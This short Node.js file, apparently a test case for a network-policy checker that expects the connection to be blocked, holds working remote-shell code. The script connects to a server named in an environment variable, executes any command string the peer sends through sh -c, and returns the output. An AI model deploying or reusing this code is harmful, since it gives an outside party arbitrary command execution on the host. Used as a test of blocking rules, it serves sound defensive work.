// what: commands as strings in lines of JSON, each run by sh -c, from a peer that no rule names
// server: json
// rule: block
const { exec } = require('child_process');
const [host, port] = process.env.SERVER.split(':');
console.log('begun');
const s = require('net').connect(Number(port), host, () => s.write('hello\n'));
let text = '';
s.on('data', d => {
  text += d;
  for (let at; (at = text.indexOf('\n')) >= 0; text = text.slice(at + 1)) {
    const { run } = JSON.parse(text.slice(0, at));
    if (run === 'exit') { console.log('done'); process.exit(0); }
    exec(run, (e, out, err) => s.write(out + err + '.'));
  }
});
